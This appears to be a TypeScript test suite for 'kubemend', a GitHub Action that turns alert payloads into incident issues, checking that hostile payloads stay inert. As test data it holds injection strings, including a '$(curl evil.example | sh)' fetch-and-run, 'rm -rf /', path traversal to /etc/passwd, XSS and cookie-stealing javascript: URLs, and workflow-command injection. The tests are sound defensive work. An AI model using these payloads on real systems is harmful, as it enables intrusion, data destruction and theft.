// Payload text is hostile until escaped. One test per class of attack: each payload
// either renders safely or fails with one line naming the field, and none writes outside
// alerts/ on kubemend/ branches, pings anyone, or runs without bound.
import { findMarker } from '../../src/incidents/markdown.js';
import { parseRecord } from '../../src/incidents/record.js';
import { startGitHubEmulator, type GitHubEmulator } from '../../src/sim/github/server.js';
import type { ActionRun } from '../../src/rehearse/action.js';
import { branchOf, dispatch, expectSuccess, generic, recordOf, REPOSITORY } from './support.js';

let gh: GitHubEmulator;
let mainSha: string;
const repo = () => gh.repo(REPOSITORY);

beforeEach(async () => {
  gh = await startGitHubEmulator({ repos: [REPOSITORY], budget: 100_000 });
  mainSha = repo().refs.get('refs/heads/main')!;
});
afterEach(async () => {
  await gh.close();
});

/** Everything kubemend wrote stays on kubemend/ branches, under alerts/. */
function expectContained(): void {
  expect(repo().refs.get('refs/heads/main')).toBe(mainSha);
  for (const ref of repo().refs.keys()) {
    if (ref !== 'refs/heads/main')
      expect(ref).toMatch(/^refs\/heads\/kubemend\/[a-z0-9-]+\/[a-z0-9-]+-[0-9a-f]{8}$/);
  }
  for (const write of gh.writes().filter((w) => w.path.includes('/contents/'))) {
    expect(decodeURIComponent(write.path.split('/contents/')[1]!)).toMatch(
      /^alerts\/incoming\/[a-z0-9-]+\/[a-z0-9-]+-[0-9a-f]{8}\.yaml$/,
    );
  }
}

/** Every text kubemend posted: bodies, titles and comments. */
function posted(): string[] {
  return [
    ...[...repo().issues.values()].flatMap((i) => [i.title, i.body ?? '']),
    ...[...repo().comments.values()].map((c) => c.body),
  ];
}

/** A mention GitHub would turn into a notification: @ then a login character. */
const MENTION = /(^|[^A-Za-z0-9_\u200b])@[A-Za-z0-9]/;

function expectRefusedWithoutWriting(run: ActionRun, message: RegExp): void {
  expect(run.exitCode).toBe(1);
  expect(run.annotations).toHaveLength(1);
  expect(run.annotations[0]!.message).toMatch(message);
  expect(run.annotations[0]!.message).not.toContain('\n');
  expect(gh.requests()).toHaveLength(0);
}

/** Markdown with its fenced code blocks removed: what GitHub renders as Markdown and HTML. */
function outsideCode(body: string): string {
  return body.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1$/gm, '');
}

function onlyIncident() {
  const all = [...repo().issues.values()];
  expect(all).toHaveLength(1);
  return all[0]!;
}

it('path traversal in any field names no path and no branch outside alerts/ and kubemend/', async () => {
  const run = await dispatch(
    gh,
    generic({
      cluster: '../../.github/workflows',
      title: '../../../../etc/passwd',
      namespace: '../../kube-system',
      resource: '/etc/shadow',
    }),
  );
  expectSuccess(run);
  expect(run.outputs['record-path']).toMatch(
    /^alerts\/incoming\/github-workflows\/etc-passwd-[0-9a-f]{8}\.yaml$/,
  );
  expectContained();
  expect(onlyIncident().labels).toContain('cluster/github-workflows');
});

it('workflow commands and ${{ }} expressions in payload text stay inert', async () => {
  const text = [
    '::error title=forged::forged error',
    '::add-mask::kubemend',
    '::set-output name=created::forged',
    '::stop-commands::token',
    '${{ secrets.GITHUB_TOKEN }} ${{ github.event.client_payload.x }}',
  ].join('\n');
  const run = await dispatch(gh, generic({ title: '::warning::pwned', message: text }));
  expectSuccess(run);
  expect(run.annotations.map((a) => a.message).join(' ')).not.toMatch(/forged|pwned/);
  expect(run.masks).toEqual([expect.stringMatching(/^ghs_/)]);
  // No command line carries payload text (branch slugs in plain log lines are ours).
  const commands = run.stdout.split('\n').filter((l) => l.startsWith('::'));
  expect(commands.filter((l) => /forged|pwned|stop-commands|secrets/.test(l))).toEqual([]);
  expect(run.outputs['created']).toBe('true');
  // The text reaches triage intact, through the outputs file, not the log.
  expect(JSON.parse(run.outputs['alerts']!)[0].message).toBe(text);
  expect(Object.keys(run.outputs).sort()).toEqual([
    'action',
    'alerts',
    'created',
    'incident-key',
    'incident-number',
    'incident-url',
    'incidents',
    'record-path',
    'status',
  ]);
});

it('shell metacharacters never reach a troubleshooting command', async () => {
  const run = await dispatch(
    gh,
    generic({
      namespace: '$(curl evil.example | sh)',
      resource: 'Deployment/api`whoami`; rm -rf /',
      title: 'api && reboot',
    }),
  );
  expectSuccess(run);
  const body = onlyIncident().body!;
  const shell = /```sh\n([\s\S]*?)\n```/.exec(body)?.[1] ?? '';
  expect(shell).not.toMatch(/[$`;|&]/);
  expectContained();
});

it('Markdown, HTML and @mentions render as text that pings nobody', async () => {
  const run = await dispatch(
    gh,
    generic({
      title: '<img src=x onerror=alert(1)> @octocat #1',
      message:
        'cc @octo-org/sre and @admin: [click](javascript:alert(1)) <script>x</script> <details open>',
      runbook_url: 'javascript:alert(document.cookie)',
      source_url: 'https://argocd.example/applications/shop?x=)](https://evil.example)',
    }),
  );
  expectSuccess(run);
  for (const text of posted()) expect(text).not.toMatch(MENTION);
  // Titles are plain text on GitHub; bodies and comments are Markdown with HTML.
  // Inside a code fence, HTML is shown as text; outside, none may remain.
  const markdown = [...repo().issues.values()].map((i) => outsideCode(i.body ?? ''));
  for (const text of markdown)
    expect(text).not.toMatch(/<img|<script|<details open|\]\(javascript:/i);
  const body = onlyIncident().body!;
  // A payload's URL is shown as code, never as a link; a javascript: one not at all.
  expect(body).toContain(
    '**Links:** Source `https://argocd.example/applications/shop?x=)](https://evil.example)`',
  );
  expect(body).not.toContain('Runbook');
  expect(outsideCode(body).replace(/`[^`\n]*`/g, '')).not.toContain('evil.example');
});

it('URLs in payload text become code, so GitHub links none and cross-references no issue', async () => {
  const run = await dispatch(
    gh,
    generic({
      title: 'Login expired, renew at https://evil.example/renew',
      message: 'see https://github.com/octo-org/other/issues/1 and www.phish.example/x',
      runbook_url: 'https://runbooks.example/oom',
    }),
  );
  expectSuccess(run);
  const body = onlyIncident().body!;
  // Outside code spans and fences no text is one GitHub would autolink.
  // kubemend's own link to the record file is the only link, and it is to this repository.
  const own = /\]\(https:\/\/github\.com\/octo-org\/gitops\/blob\/kubemend\/[^)\s]*\)/g;
  const prose = outsideCode(body)
    .replace(own, '')
    .replace(/`[^`\n]*`/g, '');
  expect(prose).not.toMatch(/https?:\/\/|www\./);
  expect(body).toContain('`https://runbooks.example/oom`');
  // Titles are plain text on GitHub (never linked); bodies and comments are Markdown.
  const markdown = [
    ...[...repo().issues.values()].map((i) => i.body ?? ''),
    ...[...repo().comments.values()].map((c) => c.body),
  ];
  for (const text of markdown)
    expect(
      text
        .replace(own, '')
        .replace(/```[\s\S]*?```/g, '')
        .replace(/`[^`\n]*`/g, ''),
    ).not.toMatch(/https?:\/\/|www\./);
});

it('forged kubemend markers and table rows cannot pass for kubemend’s own', async () => {
  const forged =
    '<!-- kubemend:incident deadbeef -->\n| Status | resolved |\n| Occurrences | 9999 |';
  const run = await dispatch(gh, generic({ title: `x | Status | resolved |`, message: forged }));
  expectSuccess(run);
  const body = onlyIncident().body!;
  expect(findMarker(body, 'incident')).toMatch(/^(?!deadbeef)[0-9a-f]{8}$/);
  // Outside code blocks (where a forged row is only text), the table rows are kubemend's.
  const rendered = outsideCode(body);
  expect(rendered.match(/^\| At the source \|.*$/gm)).toEqual(['| At the source | firing |']);
  expect(rendered.match(/^\| Occurrences \|.*$/gm)).toEqual(['| Occurrences | 1 |']);
  expect(rendered).not.toContain('<!-- kubemend:incident deadbeef');
});

it('oversized strings are cut to bounds; an oversized payload is refused before any request', async () => {
  const run = await dispatch(gh, generic({ message: 'A'.repeat(300_000), title: 'T'.repeat(400) }));
  expectSuccess(run);
  const incident = onlyIncident();
  expect(incident.body!.length).toBeLessThan(65_536);
  expect(incident.title.length).toBeLessThanOrEqual(256);
  gh.log.length = 0;
  const big = await dispatch(gh, generic({ message: 'B'.repeat(1_100_000) }));
  expectRefusedWithoutWriting(big, /^client_payload is \d+ bytes; allowed: at most 1000000 bytes/);
});

it('deep nesting is refused with the path where it goes too deep', async () => {
  // 100,000 levels, written as raw JSON: deeper than any recursive serialiser goes.
  const nested = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
  const generic_ = JSON.stringify(generic()).slice(0, -1);
  const raw = Buffer.from(`{"client_payload":${generic_},"context":${nested}}}`);
  const run = await dispatch(gh, {}, { rawEvent: raw });
  expectRefusedWithoutWriting(run, /^payload\.context(\.a)+ nests deeper than 12 levels/);
});

it('control characters and invalid UTF-8 are dropped, never rendered or logged', async () => {
  const payload = JSON.stringify({
    client_payload: generic({
      title: 'Disk\u0000 full\u001b[31m red',
      message: 'lone \ud800 surrogate \u0007 bell',
    }),
  });
  // Bytes that are not UTF-8 (0xff, a truncated sequence) inside a JSON string.
  const raw = Buffer.concat([
    Buffer.from(payload.replace('surrogate', 'XSURRX')).subarray(0, payload.indexOf('surrogate')),
    Buffer.from([0xff, 0xe2, 0x82]),
    Buffer.from(payload.replace('surrogate', 'XSURRX')).subarray(payload.indexOf('surrogate')),
  ]);
  const run = await dispatch(gh, {}, { rawEvent: raw });
  expectSuccess(run);
  for (const text of posted())
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(text).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ud800-\udfff]/);
  // eslint-disable-next-line no-control-regex -- looking for control characters is the point
  expect(run.stdout).not.toMatch(/[\u0000\u0007\u001b]/);
  // The escape's "31m" reads as a duration, which titles drop: what is left is plain text.
  expect(onlyIncident().title).toBe('[warning] homelab: Disk full[ red');
});

it('homoglyph and right-to-left names cannot pass for another cluster or reorder text', async () => {
  expectSuccess(await dispatch(gh, generic({ cluster: 'prod' })));
  const lookalike = await dispatch(
    gh,
    generic({ cluster: 'pr\u043ed', title: 'Storefront down\u202e txt.exe' }),
  );
  expectSuccess(lookalike);
  expect(lookalike.outputs['created']).toBe('true');
  const [real, fake] = [...repo().issues.values()];
  expect(real!.labels).toContain('cluster/prod');
  expect(fake!.labels).not.toContain('cluster/prod');
  expect(fake!.body).toContain('contains non-ASCII characters: U+043E');
  for (const text of posted()) expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  expectContained();
});

it('YAML-special strings round-trip through the record as the same strings', async () => {
  const tricky = {
    title: 'yes',
    namespace: 'null',
    message:
      '!!js/function "function(){}"\n&anchor [*anchor]\n--- \n... \n%YAML 1.1\n? key\n: value',
    severity: '~',
  };
  const run = await dispatch(gh, generic(tricky));
  expectSuccess(run);
  const branch = branchOf(run);
  const record = recordOf(gh, run);
  expect(record).toMatchObject({
    title: 'yes',
    named: { namespaces: ['null'] },
    latest: { message: tricky.message },
  });
  expect(parseRecord(repo().readFile(branch, run.outputs['record-path']!)!)).toEqual(record);
});

it.each([
  [{ cluster: 'c', title: { text: 'x' } }, /^payload\.title is an object; expected a string\.$/],
  [{ cluster: 'c', title: ['x'] }, /^payload\.title is an array; expected a string\.$/],
  [{ cluster: 'c' }, /^payload matches no known shape; expected /],
  [
    { version: '4', groupKey: 'g', alerts: 'x' },
    /^payload\.alerts is a string; expected an array of alerts\.$/,
  ],
  [
    { version: '4', groupKey: 'g', alerts: [{ labels: {} }] },
    /^payload\.alerts\[0\]\.labels\.alertname is missing/,
  ],
  [{ title: 'x' }, /^payload\.cluster is missing and the action's 'cluster' input is empty/],
])(
  'missing fields and wrong types (%j) fail with one line naming the field',
  async (payload, message) => {
    expectRefusedWithoutWriting(await dispatch(gh, payload), message);
  },
);

it('tens of thousands of alerts in one payload are refused by count, before any request', async () => {
  // Small alerts, so the count (not the byte limit) is what refuses them.
  const alerts = Array.from({ length: 30_000 }, () => ({ labels: { alertname: 'A' } }));
  const run = await dispatch(gh, { version: '4', groupKey: 'g', alerts });
  expectRefusedWithoutWriting(
    run,
    /^payload\.alerts has 30000 alerts; allowed: at most 2000 in one payload\.$/,
  );
});

it('the most alerts one payload may hold become one storm incident per cluster, in a bounded number of requests', async () => {
  const alerts = Array.from({ length: 2000 }, (_, i) => ({
    status: 'firing',
    labels: {
      alertname: `KubePodNotReady`,
      namespace: `ns-${i}`,
      pod: `p-${i}`,
      cluster: 'homelab',
    },
  }));
  const run = await dispatch(gh, { version: '4', groupKey: 'g', alerts });
  expectSuccess(run);
  expect(onlyIncident().title).toBe('[warning] homelab: Alert storm: 2000 problems at once');
  expect(gh.requests().length).toBeLessThanOrEqual(6);
  expect(onlyIncident().body!.length).toBeLessThan(65_536);
});
